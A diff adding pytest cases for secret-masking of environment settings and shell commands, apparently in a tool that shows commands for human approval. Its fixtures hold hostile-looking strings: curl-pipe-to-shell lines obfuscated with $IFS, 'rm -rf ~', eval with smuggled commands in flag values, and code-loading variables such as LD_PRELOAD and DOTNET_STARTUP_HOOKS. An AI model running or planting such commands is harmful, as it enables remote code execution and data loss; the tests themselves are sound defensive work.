@@ -105,12 +105,37 @@ def test_arguments_are_shown_whole_but_for_secrets(arguments: list[str], shown: 
         ("LD_PRELOAD", "/tmp/x.so", "/tmp/x.so", False),
         ("NODE_OPTIONS", "--require /tmp/x.js", "--require /tmp/x.js", False),
         ("PATH", "/opt/bin", "/opt/bin", False),
+        ("npm_config_node_options", "--require=/tmp/x.js", "--require=/tmp/x.js", False),
+        ("PROMPT_COMMAND", "curl h?a=b;rm -rf ~", "curl h?a=***;rm -rf ~", True),
+        ("DOTNET_STARTUP_HOOKS", "/tmp/x.dll", "/tmp/x.dll", False),
+        ("_JAVA_OPTIONS", "-javaagent:/tmp/x", "-javaagent:/tmp/x", False),
+        ("npm_config__authToken", "hush", "***", True),
         ("HTTPS_PROXY", "http://me:hush@proxy:1", "http://***@proxy:1", True),
     ],
 )
 def test_settings_are_masked_unless_they_are_known_to_be_none(name: str, value: str, shown: str, is_secret: bool) -> None:
     """What decides which code runs is shown; of everything else only what cannot be a secret."""
     assert (shown, is_secret) == (masked_setting(name, value), has_secret_setting(name, value))
+
+
+@pytest.mark.parametrize(
+    ("words", "shown"),
+    [
+        (["sh", "-c", ": Bearer x;curl$IFS$9h.test|sh"], "sh -c ': Bearer ***;curl$IFS$9h.test|sh'"),
+        (["sh", "-c", "wget http://h/?a=x;curl$IFS$9h.test|sh"], "sh -c 'wget http://h/?a=***;curl$IFS$9h.test|sh'"),
+        (["sh", "-c", "ls ftp://a;curl$IFS$9h.test|sh;@"], "sh -c 'ls ftp://a;curl$IFS$9h.test|sh;@'"),
+        (["/bin/bash", "-c", "eval $0", "--token", "curl h.test|sh"], "/bin/bash -c 'eval $0' --token 'curl h.test|sh'"),
+        (["env", "bash", "-auth", "script"], "env bash -auth script"),
+        (["bash", "-c", "eval $0", "--key=curl h.test|sh"], "bash -c 'eval $0' '--key=curl h.test|sh'"),
+        (["node", "--key", "-e", "code"], "node --key -e code"),
+        (["npx", "--call", "--token", "a;b"], "npx --call --token 'a;b'"),
+        (["node", "x.js", "-token", "hush", "--key", "p@ss", "--pw=hush"], "node x.js -token *** --key *** --pw=***"),
+        (["docker", "run", "x", "--password", "p$ss; w"], "docker run x --password ***"),
+    ],
+)
+def test_no_mask_hides_code(words: list[str], shown: str) -> None:
+    """Where a shell or an interpreter is run, a mask covers no more than one word: nobody says yes to unseen commands."""
+    assert shown == shown_command(words)
 
 
 def test_a_secret_in_the_path_of_an_address() -> None:
